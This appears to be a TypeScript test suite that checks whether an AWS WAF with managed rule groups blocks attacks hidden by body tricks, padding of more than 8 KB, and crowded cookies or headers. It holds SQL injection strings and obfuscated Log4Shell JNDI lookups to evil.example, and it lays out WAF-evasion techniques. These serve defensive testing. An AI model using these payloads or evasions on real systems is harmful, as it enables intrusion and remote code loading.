import assert from "node:assert/strict";
import { once } from "node:events";
import type { IncomingMessage } from "node:http";
import { Agent, request } from "node:https";
import { after, before, describe, it } from "node:test";
import { type GuardedStage, guardedStage, wafRule } from "../guarded-stage.ts";
import { type RunningServer, startServer } from "../running-server.ts";
import { BODY_TRICKS, HARMLESS, PLANTED, type TrickBody } from "../waf/body-tricks.ts";

/** Requests that hide an attack from AWS's managed groups, before a stage that answers 200 by itself. */
let server: RunningServer;
let gets: GuardedStage;
let posts: GuardedStage;
const agent = new Agent({ keepAlive: true, maxSockets: 1 });

const GROUPS = ["CommonRuleSet", "SQLiRuleSet", "KnownBadInputsRuleSet", "LinuxRuleSet", "UnixRuleSet"].map(
  (name, Priority) => ({
    ...wafRule(
      name,
      { ManagedRuleGroupStatement: { VendorName: "AWS", Name: `AWSManagedRules${name}` } },
      { OverrideAction: { None: {} } },
    ),
    Priority,
  }),
);

before(async () => {
  server = await startServer();
  gets = await guardedStage(server);
  posts = await guardedStage(server, {
    httpMethod: "POST",
    contentTypes: [
      ...["application/x-www-form-urlencoded", "multipart/form-data", "application/x-ndjson"],
      ...["text/xml", "application/xml"],
    ],
  });
  await gets.guard("gets", GROUPS);
  await posts.guard("posts", GROUPS);
});
after(async () => {
  agent.destroy();
  await server.stop();
});

/** The status of the answer. */
async function send(
  url: string,
  method: string,
  headers: readonly string[],
  body: Uint8Array = Buffer.alloc(0),
): Promise<number> {
  const outgoing = request(url, {
    ...{ agent, method, rejectUnauthorized: false },
    headers: ["Host", "shop.example", "User-Agent", "Mozilla/5.0", ...headers],
  });
  outgoing.end(body);
  const [incoming] = (await once(outgoing, "response")) as [IncomingMessage];

  await incoming.resume().toArray();
  return incoming.statusCode!;
}

const post = ({ contentTypes, body }: TrickBody): Promise<number> =>
  send(
    posts.url.replace("http:", "https:"),
    "POST",
    [...contentTypes.flatMap((type) => ["Content-Type", type]), "Content-Length", `${body.length}`],
    body,
  );
const get = (headers: readonly string[], query = ""): Promise<number> =>
  send(gets.url.replace("http:", "https:") + query, "GET", headers);

describe("bodies", () => {
  for (const [name, trick] of BODY_TRICKS) {
    it(`${name} brings no attack past the firewall`, async () => {
      // Several content types are refused before the firewall is asked.
      const isRefused = trick(HARMLESS).contentTypes.length > 1;
      if (!/entities/.test(name)) assert.equal(await post(trick(HARMLESS)), isRefused ? 400 : 200);
      for (const [, text] of PLANTED) assert.equal(await post(trick(text)), isRefused ? 400 : 403, text);
    });
  }
});

describe("padding", () => {
  const SQL = "1' or 'a'='a";
  const LOOKUP = "${jndi:ldap://evil.example/a}";
  const pad = "a".repeat(8200);
  const CASES: readonly (readonly [
    what: string,
    headers: (text: string) => readonly string[],
    attack: string,
  ])[] = [
    ["a cookie", (text) => ["Cookie", `id=${text}`], SQL],
    ["a cookie behind 200 others", (text) => ["Cookie", `${"a=1; ".repeat(200)}id=${text}`], SQL],
    ["a cookie behind 1,200 others", (text) => ["Cookie", `${"a=1; ".repeat(1200)}id=${text}`], "1 or 1=1"],
    ["a cookie behind 8,200 bytes", (text) => ["Cookie", `p=${pad}; id=${text}`], SQL],
    ["a header", (text) => ["X-Api-Version", text], LOOKUP],
    ["a header behind 8,200 bytes", (text) => ["X-Pad", pad, "X-Api-Version", text], LOOKUP],
    ["a header with SQL behind 8,200 bytes", (text) => ["X-Pad", pad, "X-Id", text], SQL],
    [
      "a header behind 200 others",
      (text) => [...Array<string[]>(198).fill(["X", "1"]).flat(), "X-Api-Version", text],
      LOOKUP,
    ],
  ];
  for (const [what, headers, attack] of CASES) {
    it(`does not hide ${what}`, async () => {
      assert.equal(await get(headers("plain")), 200);
      assert.equal(await get(headers(attack)), 403);
    });
  }
});

describe("arguments", () => {
  for (const text of [
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a}",
    "${jnd${date:'i'}:ldap://evil.example/a}",
    "' glob '*",
    "' regexp '.*",
    "' union table users-- ",
    "1 union values row(1,2,3)",
    "1;table users-- ",
    "' collate nocase or 1-- ",
  ]) {
    it(`do not bring ${text} past the firewall`, async () => {
      assert.equal(await get([], `?q=${encodeURIComponent(text).replaceAll("'", "%27")}`), 403);
    });
  }
});
